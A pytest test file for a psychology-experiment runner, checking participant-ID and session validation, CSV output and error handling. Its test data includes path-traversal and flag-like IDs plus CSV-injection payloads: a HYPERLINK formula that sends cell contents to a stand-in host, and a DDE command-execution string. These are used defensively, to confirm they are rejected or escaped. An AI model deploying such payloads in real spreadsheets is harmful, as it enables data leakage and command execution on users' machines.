"""Session checks: pseudonymous participant IDs, session numbers, PsychoPy's CSV."""

from __future__ import annotations

import json

import pytest

from psyai.booth.session import validate_participant, validate_session
from psyai.errors import SessionError


@pytest.mark.parametrize("pid", ["P001", "sub_01", "a-b", "x" * 32])
def test_valid_ids(pid):
    assert validate_participant(pid) == pid


@pytest.mark.parametrize("pid, match", [
    ("../evil", "not allowed"), ("", "empty"), (None, "empty"), ("x" * 33, "not allowed"),
    ("山田", "not allowed"), ("a/b", "not allowed"), ("a b", "not allowed"), (".hidden", "not allowed"),
    ("-rf", "starts with '-'"), ("con", "device name"), ("NUL", "device name"), ("Com1", "device name"),
    ("lpt9", "device name"), ("P００1", "not allowed"),
])
def test_invalid_ids(pid, match):
    with pytest.raises(SessionError, match=match):
        validate_participant(pid)


@pytest.mark.parametrize("value, ok", [("1", 1), (2, 2), ("99", 99), (" 3 ", 3), ("01", 1), ("0", None), ("100", None),
                                       ("one", None), ("1_0", None), ("٣", None), ("３", None), ("+1", None),
                                       ("-1", None), ("1e1", None), ("", None)])
def test_session_numbers(value, ok):
    if ok is None:
        with pytest.raises(SessionError):
            validate_session(value)
    else:
        assert validate_session(value) == ok


def test_psychopy_csv_gives_back_every_text_as_written(tmp_path):
    """PsychoPy's own writer with csv_cell values, read back by pandas: quotes with and without commas,
    a leading quote, newlines, carriage returns, JSON lists."""
    import pandas as pd
    from psychopy import data as pdata

    from psyai.booth.runner import csv_cell

    texts = ['What does "rest" mean?', '"Sleep" tips?', 'It\'s "fine", thanks', "two\nlines", "cr\rhere",
             'plain', "'quoted' start", ["a", 'b "c", d']]
    exp = pdata.ExperimentHandler(name="t", dataFileName=str(tmp_path / "out"), savePickle=False,
                                  saveWideText=True)
    for text in texts:
        exp.addData("text", csv_cell(text))
        exp.nextEntry()
    exp.close()
    back = pd.read_csv(tmp_path / "out.csv", keep_default_na=False)["text"].tolist()
    assert back[:-1] == texts[:-1] and json.loads(back[-1]) == texts[-1]


def test_formula_cells_are_kept_as_text_in_the_csv(tmp_path):
    """OWASP's CSV-injection rule: a text starting with = + - @, a tab or a carriage return gets a
    leading apostrophe (a spreadsheet shows it as text, never runs it); numbers stay numbers."""
    import csv

    import pandas as pd
    from psychopy import data as pdata

    from psyai.booth.runner import csv_cell

    texts = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
             "\tlead", "\rcr", "=1+1", "a = b"]
    exp = pdata.ExperimentHandler(name="t", dataFileName=str(tmp_path / "out"), savePickle=False,
                                  saveWideText=True)
    for text in texts:
        exp.addData("text", csv_cell(text))
        exp.addData("number", csv_cell(-0.5))
        exp.nextEntry()
    exp.close()
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == ["'" + t for t in texts[:-1]] + ["a = b"]
    assert all(not r["text"].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows)
    assert pd.read_csv(tmp_path / "out.csv")["number"].tolist() == [-0.5] * len(texts)


def test_main_guard_says_what_a_stop_left_and_never_shows_a_traceback(capsys, monkeypatch):
    """Ctrl-C before the log exists must not advise --resume (there is nothing to resume); a file the system
    refuses is named in one line."""
    from psyai.booth import runner

    monkeypatch.setitem(runner._state, "log_opened", False)

    def stop():
        raise KeyboardInterrupt

    assert runner.main_guard(stop) == 130
    err = capsys.readouterr().err
    assert "before the session started: nothing was recorded" in err and "--resume" not in err

    def stop_after_the_log_opened():  # as open_session marks it
        runner._state["log_opened"] = True
        raise KeyboardInterrupt

    assert runner.main_guard(stop_after_the_log_opened) == 130
    assert "run the same command with --resume" in capsys.readouterr().err
    assert runner.main_guard(stop) == 130  # the next session of a batch starts with nothing opened
    assert "--resume" not in capsys.readouterr().err

    def refused():
        raise PermissionError(13, "Permission denied", "/data/turing_test/sub-P1")

    assert runner.main_guard(refused) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: /data/turing_test/sub-P1: Permission denied")


def test_a_refused_process_waits_for_the_new_holders_line_not_the_dead_ones(tmp_path):
    """The lock's winner writes its line just after taking the lock; the loser must not name the previous,
    killed holder (seen on a loaded machine: test_faults' two resumes at once)."""
    import os
    import subprocess
    import sys

    from psyai.booth.session import _holder

    path = tmp_path / "sub-X_ses-1.lock"
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    path.write_text(f"pid {dead.pid} on host h since earlier\n")
    writer = subprocess.Popen([sys.executable, "-c", "import os, sys, time; time.sleep(0.3); "
                               "open(sys.argv[1], 'w').write(f'pid {os.getpid()} on host h since now\\n'); "
                               "time.sleep(3)", str(path)])
    fd = os.open(path, os.O_RDWR)
    try:
        assert _holder(fd).startswith(f"pid {writer.pid} on host h")
    finally:
        os.close(fd)
        writer.kill()
        writer.wait()
